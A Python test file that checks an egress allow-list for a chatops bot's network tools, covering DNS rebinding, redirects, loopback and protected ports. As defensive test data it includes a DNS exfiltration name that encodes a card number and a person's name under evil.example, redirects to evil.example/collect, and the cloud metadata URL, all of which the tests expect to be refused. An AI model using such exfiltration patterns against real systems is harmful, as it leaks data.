"""The egress policy, through the real tools against real local servers (http.server on port 0).

Each server counts the requests it received, so "refused" is proven by nothing arriving, not by
waiting. Names that do not exist (``api.corp.example``) are answered by an injected resolver that
records every lookup, which proves a refused name was never even looked up.
"""

from __future__ import annotations

import json
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from agent.tooling import ToolResult
from bot.settings import Settings
from tests.support.resolvers import StaticResolver
from tools.base import FunctionTool
from tools.builtin.network import network_tools
from tools.catalog import load_catalog
from tools.config import ToolsConfig
from tools.egress import EgressPolicy, parse_entry, protected_endpoints
from tools.errors import ToolConfigError

REFUSED = "(CHATOPS_EGRESS_ALLOW); ask a human to add it"


@dataclass
class Server:
    """A local HTTP server: /redirect?to=URL answers 302, /trickle sends its headers slowly."""

    port: int
    requests: list[dict[str, str]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


def _handler(server: Server) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.requests.append({"path": self.path, "host": self.headers.get("Host", "")})
            if self.path.startswith("/redirect?to="):
                self.send_response(302)
                self.send_header("Location", self.path.split("=", 1)[1])
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif self.path == "/trickle":
                for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 100:
                    self.wfile.write(bytes([byte]))
                    self.wfile.flush()
                    time.sleep(0.2)
            else:
                body = json.dumps(server.requests[-1]).encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    return Handler


@pytest.fixture
def servers() -> Iterator[list[Server]]:
    """Two recording servers on loopback, on ephemeral ports."""
    started: list[tuple[ThreadingHTTPServer, Server]] = []
    for _ in range(2):
        record = Server(port=0)
        httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler(record))
        httpd.daemon_threads = True
        record.port = int(httpd.server_address[1])
        threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        started.append((httpd, record))
    yield [record for _, record in started]
    for httpd, _ in started:
        httpd.shutdown()
        httpd.server_close()


def tools(
    allow: list[str], resolver: StaticResolver | None = None, **protected: Any
) -> dict[str, FunctionTool[Any]]:
    resolver = resolver or StaticResolver()
    endpoints = protected_endpoints(resolver=resolver, **protected) if protected else []
    policy = EgressPolicy.parse(allow, protected=endpoints, resolver=resolver)
    return {tool.name: tool for tool in network_tools(policy)}


def call(tool: FunctionTool[Any], **arguments: object) -> ToolResult:
    return tool.execute(json.dumps(arguments), timeout=10)


# -- the default and the basic cases ---------------------------------------------------------------


def test_an_allowed_host_is_reached(servers: list[Server]) -> None:
    result = call(tools(["127.0.0.1"])["http_check"], url=f"{servers[0].url}/health")
    assert result.output.startswith(f"OK: GET {servers[0].url}/health -> 200 OK")
    assert [r["path"] for r in servers[0].requests] == ["/health"]


def test_loopback_is_refused_by_default(servers: list[Server]) -> None:
    network = tools([])
    result = call(network["http_check"], url=f"{servers[0].url}/")
    assert result.is_error
    assert result.output == f"Error: egress to 127.0.0.1 is not allowed {REFUSED}"
    tcp = call(network["tcp_check"], host="127.0.0.1", port=servers[0].port)
    assert tcp.output == f"Error: egress to 127.0.0.1 is not allowed {REFUSED}"
    assert servers[0].requests == []


def test_a_dns_name_built_from_log_text_is_refused_before_any_lookup(servers: list[Server]) -> None:
    resolver = StaticResolver({"api.corp.example": ["127.0.0.1"]})
    network = tools(["*.corp.example", "127.0.0.1"], resolver)
    exfil = "4111111111111111-jane.doe.evil.example"
    lookup = call(network["dns_lookup"], name=exfil)
    assert lookup.output == f"Error: egress to {exfil} is not allowed {REFUSED}"
    check = call(network["http_check"], url=f"http://{exfil}/")
    assert check.output == f"Error: egress to {exfil} is not allowed {REFUSED}"
    probe = call(network["tcp_check"], host=exfil, port=53)
    assert probe.is_error
    assert resolver.asked == []  # the name never reached a resolver, so never a DNS server


def test_a_redirect_to_a_refused_host_is_refused(servers: list[Server]) -> None:
    first, second = servers
    network = tools([f"127.0.0.1:{first.port}"])  # the first server only, by port
    for target in (f"{second.url}/collect", "http://evil.example/collect"):
        result = call(network["http_check"], url=f"{first.url}/redirect?to={target}", follow_redirects=True)
        host = "evil.example" if "evil" in target else "127.0.0.1"
        assert result.output == f"Error: egress to {host} is not allowed {REFUSED}"
    assert len(first.requests) == 2 and second.requests == []
    unfollowed = call(network["http_check"], url=f"{first.url}/redirect?to={second.url}/x")
    assert unfollowed.output.startswith("OK: ") and f"redirects to {second.url}/x" in unfollowed.output


def test_the_redis_port_is_refused_even_when_loopback_is_allowed_by_cidr(
    redis_url: str, servers: list[Server]
) -> None:
    """Allowing 127.0.0.0/8 opens loopback, not the bot's own Redis: that takes an entry naming
    its port. The real Redis of the test run listens there."""
    redis_port = int(redis_url.rsplit(":", 1)[1].split("/")[0])
    network = tools(["127.0.0.0/8"], redis_url=redis_url, web_port=None)
    refused = call(network["tcp_check"], host="127.0.0.1", port=redis_port)
    assert refused.output == (
        f"Error: egress to 127.0.0.1:{redis_port} is not allowed (CHATOPS_EGRESS_ALLOW): "
        f"127.0.0.1 is the bot's own Redis; ask a human to add it"
    )
    for alias in ("127.0.0.2", "::ffff:127.0.0.1"):  # another loopback address, an IPv4-mapped one
        assert call(network["tcp_check"], host=alias, port=redis_port).is_error
    other = call(network["tcp_check"], host="127.0.0.1", port=servers[0].port)
    assert other.output.startswith(f"OK: 127.0.0.1:{servers[0].port} accepts TCP connections")
    opened = tools(["127.0.0.0/8", f"127.0.0.1:{redis_port}"], redis_url=redis_url, web_port=None)
    assert call(opened["tcp_check"], host="127.0.0.1", port=redis_port).output.startswith("OK: ")


def test_the_web_and_metrics_port_is_protected_like_redis(servers: list[Server]) -> None:
    web = servers[0]
    network = tools(["127.0.0.1"], redis_url=None, web_port=web.port)
    result = call(network["http_check"], url=f"{web.url}/metrics")
    assert result.is_error and "the bot's own web and metrics port" in result.output
    assert web.requests == []


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://[::ffff:127.0.0.1]:9/"])
def test_special_ranges_need_an_exact_entry_not_a_broad_cidr(url: str) -> None:
    result = call(tools(["0.0.0.0/0", "::/0"])["http_check"], url=url)
    assert result.is_error and "is not allowed" in result.output
    assert "link-local" in result.output or "loopback" in result.output


# -- names: checked by name, connected by vetted address -------------------------------------------


def test_a_name_is_resolved_once_and_the_vetted_address_is_the_one_connected(servers: list[Server]) -> None:
    resolver = StaticResolver({"api.corp.example": ["127.0.0.1"]})
    network = tools(["api.corp.example"], resolver)  # an exact name may lead to loopback
    result = call(network["http_check"], url=f"http://api.corp.example:{servers[0].port}/who")
    assert result.output.startswith("OK: ")
    assert servers[0].requests == [{"path": "/who", "host": f"api.corp.example:{servers[0].port}"}]
    assert resolver.asked == ["api.corp.example"]  # no second lookup a rebinding DNS could answer


def test_a_pattern_allowed_name_that_resolves_to_loopback_is_refused(servers: list[Server]) -> None:
    resolver = StaticResolver({"rebind.corp.example": ["10.1.2.3", "127.0.0.1"]})
    network = tools(["*.corp.example"], resolver)
    result = call(network["http_check"], url=f"http://rebind.corp.example:{servers[0].port}/")
    assert result.output == (
        "Error: egress to rebind.corp.example is not allowed (CHATOPS_EGRESS_ALLOW): "
        "it resolves to 127.0.0.1, which is loopback; ask a human to add it"
    )
    assert servers[0].requests == []


def test_dns_lookup_answers_for_allowed_names_only() -> None:
    resolver = StaticResolver({"db.corp.example": ["10.0.0.7"]})
    network = tools(["*.corp.example", "10.0.0.0/8"], resolver)
    assert call(network["dns_lookup"], name="db.corp.example").output.startswith(
        "OK: db.corp.example resolves to 10.0.0.7"
    )
    assert call(network["dns_lookup"], name="10.0.0.7").output.startswith("OK: 10.0.0.7 is db.corp.example")
    assert call(network["dns_lookup"], name="corp.example").is_error  # *.corp.example is below it only


def test_a_whole_request_ends_at_its_deadline_however_slowly_bytes_trickle(servers: list[Server]) -> None:
    started = time.monotonic()
    result = tools(["127.0.0.1"])["http_check"].execute(
        json.dumps({"url": f"{servers[0].url}/trickle"}), timeout=1
    )
    assert result.output == f"FAIL: GET {servers[0].url}/trickle: no answer within 1 s"
    assert time.monotonic() - started < 10  # catches only a hang: the trickle lasts 20 s


# -- catalog http tools ----------------------------------------------------------------------------


def test_catalog_http_tools_reach_their_own_host_and_only_listed_hosts_otherwise(
    tmp_path: Path, servers: list[Server]
) -> None:
    own, other = servers
    path = tmp_path / "tools.yaml"
    path.write_text(
        textwrap.dedent(
            f"""
            tools:
              - name: status
                description: The status page.
                category: read_only
                http: {{url: "{own.url}/status"}}
              - name: status_then_redirect
                description: Follows a redirect.
                category: read_only
                http: {{url: "{own.url}/redirect?to={other.url}/leak", follow_redirects: true}}
              - name: fetch
                description: Any URL.
                category: read_only
                params: {{url: {{type: string}}}}
                http: {{url: "{{url}}"}}
            """
        )
    )
    catalog = {tool.name: tool for tool in load_catalog(path, env={}).tools}
    assert catalog["status"].execute("{}", timeout=10).output.startswith(f"GET {own.url}/status -> 200 OK")
    redirected = catalog["status_then_redirect"].execute("{}", timeout=10)
    assert redirected.output == f"Error: egress to 127.0.0.1 is not allowed {REFUSED}"
    fetched = catalog["fetch"].execute(json.dumps({"url": f"{other.url}/x"}), timeout=10)
    assert fetched.output == f"Error: egress to 127.0.0.1 is not allowed {REFUSED}"
    assert other.requests == []
    listed = load_catalog(path, env={}, egress=EgressPolicy.parse([f"127.0.0.1:{other.port}"]))
    fetch = next(tool for tool in listed.tools if tool.name == "fetch")
    assert fetch.execute(json.dumps({"url": f"{other.url}/x"}), timeout=10).output.startswith("GET ")


# -- configuration ---------------------------------------------------------------------------------


def test_settings_feed_the_policy_of_every_network_tool(servers: list[Server]) -> None:
    allow = f"*.corp.example, 127.0.0.1:{servers[0].port}"  # as the environment gives it
    settings = Settings(_env_file=None, chatops_egress_allow=allow)  # type: ignore[call-arg, arg-type]
    assert settings.chatops_egress_allow == ["*.corp.example", f"127.0.0.1:{servers[0].port}"]
    policy = ToolsConfig.from_settings(settings).egress_policy()
    network = {tool.name: tool for tool in network_tools(policy)}
    assert call(network["http_check"], url=f"{servers[0].url}/").output.startswith("OK: ")
    assert call(network["http_check"], url=f"{servers[1].url}/").is_error


@pytest.mark.parametrize(
    "entry", ["*", "*corp.example", "a..b", "host:0", "host:http", "[::1]x", "bad_host!"]
)
def test_a_bad_entry_fails_at_start_up_naming_it(entry: str) -> None:
    with pytest.raises(ToolConfigError, match="egress entry"):
        parse_entry(entry)


def test_entry_forms() -> None:
    assert parse_entry("Grafana.Corp.").name == "grafana.corp"
    assert parse_entry("*.corp.example").name == ".corp.example"
    assert parse_entry("[fd00::1]:443").port == 443
    assert str(parse_entry("10.0.0.0/8:5432").network) == "10.0.0.0/8"
    assert parse_entry("127.0.0.0/8").exact and not parse_entry("0.0.0.0/0").exact
    assert not parse_entry("*.corp.example").exact


def test_a_resolver_that_fails_is_a_fail_result_not_a_refusal() -> None:
    network = tools(["*.corp.example"], StaticResolver())
    result = call(network["tcp_check"], host="gone.corp.example", port=443)
    assert not result.is_error and result.output.startswith("FAIL: gone.corp.example:443: cannot resolve")
